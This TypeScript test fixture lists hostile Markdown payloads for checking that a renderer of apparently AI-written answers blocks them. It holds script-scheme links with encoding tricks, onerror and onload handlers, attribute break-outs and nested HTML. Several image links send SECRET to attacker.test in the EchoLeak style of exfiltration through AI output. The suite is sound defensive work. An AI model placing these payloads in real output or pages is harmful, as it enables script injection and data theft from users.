/**
 * Markdown-specific hostile answers (reliability.md A1, A4–A8), written for this suite: script URLs in
 * inline, autolink, bare and reference forms with case, entity, whitespace and control-character
 * tricks; images that would exfiltrate (inline and reference-style, EchoLeak shape); nested brackets;
 * HTML in link text, titles and alt text. Payloads that would run script set `window.__xss` or call
 * a stubbed dialog. Every image points at `attacker.test` or the page itself, never at an
 * allow-listed host: the corpus run asserts that it causes no request at all.
 */
export const MARKDOWN_PAYLOADS: readonly string[] = [
  // Inline links, script schemes in every spelling.
  '[a](javascript:window.__xss=1)',
  '[a](JavaScript:window.__xss=1)',
  '[a](JAVASCRIPT:window.__xss=1)',
  '[a]( javascript:window.__xss=1 )',
  '[a](<javascript:window.__xss=1>)',
  '[a](<java script:window.__xss=1>)',
  '[a](&#106;avascript:window.__xss=1)',
  '[a](&#x6A;avascript:window.__xss=1)',
  '[a](&#0000106;&#0000097;vascript:window.__xss=1)',
  '[a](javascript&colon;window.__xss=1)',
  '[a](java&#x09;script:window.__xss=1)',
  '[a](java&#x0A;script:window.__xss=1)',
  '[a](\u0001javascript:window.__xss=1)',
  '[a](\tjavascript:window.__xss=1)',
  '[a](javascript://%0Awindow.__xss=1)',
  '[a](javascript%3Awindow.__xss=1)',
  '[a](vbscript:msgbox(1))',
  '[a](VBScript:msgbox(1))',
  '[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)',
  '[a](DATA:text/html,<script>window.__xss=1</script>)',
  '[a](file:///etc/passwd)',
  '[a](tel:+15550100)',
  // Autolinks and bare URLs.
  '<javascript:window.__xss=1>',
  '<JAVASCRIPT:window.__xss=1>',
  '<vbscript:msgbox(1)>',
  '<data:text/html,<script>window.__xss=1</script>>',
  'javascript:window.__xss=1',
  'https://ok.test/"onmouseover="window.__xss=1',
  'www.ok.test/<img src=x onerror=window.__xss=1>',
  // Attribute break-out attempts through the destination and the title.
  '[a](https://ok.test/" onclick="window.__xss=1)',
  "[a](https://ok.test/'><script>window.__xss=1</script>)",
  '[a](https://ok.test "<img src=x onerror=window.__xss=1>")',
  `[a](https://ok.test 'x" onmouseover="window.__xss=1')`,
  // Reference-style links.
  '[a][r]\n\n[r]: javascript:window.__xss=1',
  '[r]\n\n[r]: JaVaScRiPt:window.__xss=1',
  '[r]: data:text/html,<script>window.__xss=1</script>\n\n[click][r]',
  // Images: script and data URLs, exfiltration to a host that is not allow-listed (A4, A5, A7).
  '![x](javascript:window.__xss=1)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9feHNzPTE+)',
  '![x](data:image/svg+xml,<svg onload=window.__xss=1>)',
  '![x](https://attacker.test/p.png?q=SECRET)',
  '![a][r]\n\n[r]: https://attacker.test/?d=SECRET',
  '![a]\n\n[a]: https://attacker.test/short?d=SECRET',
  '[x]: https://attacker.test/first.png?d=SECRET\n\n![x]',
  '![x](//attacker.test/p.png?d=SECRET)',
  '![x](HTTPS://ATTACKER.TEST/p.png?d=SECRET)',
  '![x](https://cdn.allowed.test@attacker.test/p.png?d=SECRET)',
  // Markdown turns the two backslashes into one, and the URL parser reads a backslash as a slash: the host is attacker.test.
  '![x](https://attacker.test\\\\@cdn.allowed.test/p.png?d=SECRET)',
  '![x](/relative.png?d=SECRET)',
  '![x]( https://attacker.test/p.png?d=SECRET "title")',
  '![x](<https://attacker.test/p p.png?d=SECRET>)',
  // Nesting and HTML inside link text, alt text, code, tables, lists, quotes.
  '[![x](https://attacker.test/i.png?d=SECRET)](https://ok.test)',
  '[[a](javascript:window.__xss=1)](https://ok.test)',
  '[[[[[[a](javascript:window.__xss=1)]]]]]',
  '[<img src=x onerror=window.__xss=1>](https://ok.test)',
  '[<script>window.__xss=1</script>](javascript:void(0))',
  '![<img src=x onerror=window.__xss=1>](https://attacker.test/a.png?d=SECRET)',
  '**[a](javascript:window.__xss=1)** and _[b](vbscript:x)_',
  '> [a](javascript:window.__xss=1)\n> <img src=x onerror=window.__xss=1>',
  '- [ ] <svg onload=window.__xss=1>\n- [x] [a](javascript:window.__xss=1)',
  '| a | b |\n|---|---|\n| [x](javascript:window.__xss=1) | <img src=x onerror=window.__xss=1> |',
  '`<script>window.__xss=1</script>`',
  '```html\n<script>window.__xss=1</script>\n<img src=x onerror=window.__xss=1>\n```',
  '```"><img src=x onerror=window.__xss=1>\ncode\n```',
  '$$<img src=x onerror=window.__xss=1>$$',
  // Raw HTML that must stay text.
  '<a href="javascript:window.__xss=1">x</a>',
  '<img src=x onerror="window.__xss=1">',
  '[a](https://ok.test)<style>*{color:red}</style>',
  '<base href="javascript:/">\n<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '<form action="javascript:window.__xss=1"><button>x</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<details open ontoggle=window.__xss=1>',
];
